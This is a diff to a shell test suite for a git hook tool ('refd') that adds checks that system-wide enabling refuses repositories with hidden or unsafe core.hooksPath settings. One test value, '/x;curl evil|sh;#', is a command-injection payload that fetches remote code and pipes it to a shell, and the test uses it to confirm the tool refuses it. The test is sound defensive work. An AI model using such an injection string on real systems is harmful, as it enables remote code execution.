@@ -574,8 +574,9 @@ system_chained() {
 			"$REFD" "$@" >/dev/null
 	}
 	owner enable --chain refs/for/ "$at"
-	quietly 'system, chained before: enabled' "$REFD" enable --system \
-		--root "$T/srv" --chain refs/for/
+	sed -i "s|^\(.*hooksPath = \).*|\1$T/other.refd|" "$at/refd.gitconfig"
+	quietly 'system, chained before by another refd: enabled' "$REFD" \
+		enable --system --root "$T/srv" --chain refs/for/
 	"$REFD" disable --system >/dev/null
 	owner disable "$at"
 	mkdir "$T/by.hand"
@@ -588,6 +589,48 @@ system_chained() {
 	"$REFD" enable --system --gate >"$T/said" 2>&1
 	is 'system, gate: refused' 129 $?
 	says 'system, gate: the command' 'run refd enable --gate <repository>'
+}
+
+system_refused() { # REPORTED-AS WORDS
+	"$REFD" enable --system --root "$T/srv" >"$T/said" 2>&1
+	is "system, $1: refused" 1 $?
+	says "system, $1: why" "$2"
+	check "system, $1: nothing was done" test ! -e "$T/etc/refd"
+}
+
+# Git finds a value of a repository also in other files than its configuration,
+# and a relative path in the repository. Somebody copies the printed command
+# into a shell of root.
+system_hidden() {
+	local at=$T/srv/bare.git evil='/x;curl evil|sh;#' own
+	own=$(<"$at/config")
+	git -C "$at" config include.path more
+	git config -f "$at/more" core.hooksPath hooks2
+	system_refused 'a relative path in an included file' \
+		"bare.git: its own core.hooksPath, $at/hooks2,"
+	says 'system, a relative path: the command' \
+		"\"ln -s $REFD $at/hooks2/proc-receive\""
+	mkdir "$at/hooks2"
+	ln -s "$REFD" "$at/hooks2/proc-receive"
+	quietly 'system, a relative path: enabled with that link' "$REFD" \
+		enable --system --root "$T/srv"
+	"$REFD" disable --system >/dev/null
+	git config -f "$at/more" core.hooksPath "$evil"
+	system_refused 'a path that is a command' \
+		"\"ln -s $REFD '$evil/proc-receive'\""
+	git config -f "$at/more" core.hooksPath ''
+	system_refused 'an empty path' 'bare.git: its own core.hooksPath, /,'
+	rm "$at/more"
+	git config -f "$at/more" receive.shallowUpdate true
+	system_refused 'shallowUpdate in an included file' \
+		'bare.git: receive.shallowUpdate'
+	printf '%s\n' "$own" >"$at/config"
+	git -C "$at" config extensions.worktreeConfig true
+	git config -f "$at/config.worktree" core.hooksPath "$T/others"
+	system_refused 'a path in config.worktree' \
+		"bare.git: its own core.hooksPath, $T/others,"
+	printf '%s\n' "$own" >"$at/config"
+	rm -r "$at/more" "$at/config.worktree" "$at/hooks2"
 }
 
 # A repository of another owner is below the root, too. The daemon refuses it,
@@ -629,6 +672,7 @@ system_wide() {
 		'bare.git: its own core.hooksPath'
 	check 'system: and nothing was done' test ! -e "$T/etc/refd"
 	git -C "$T/srv/bare.git" config --unset core.hooksPath
+	system_hidden
 	check 'system: enabled' "$REFD" enable --system --root "$T/srv" \
 		>"$T/said"
 	says 'system: says the include' "includeIf.gitdir:$T/srv/.path +="
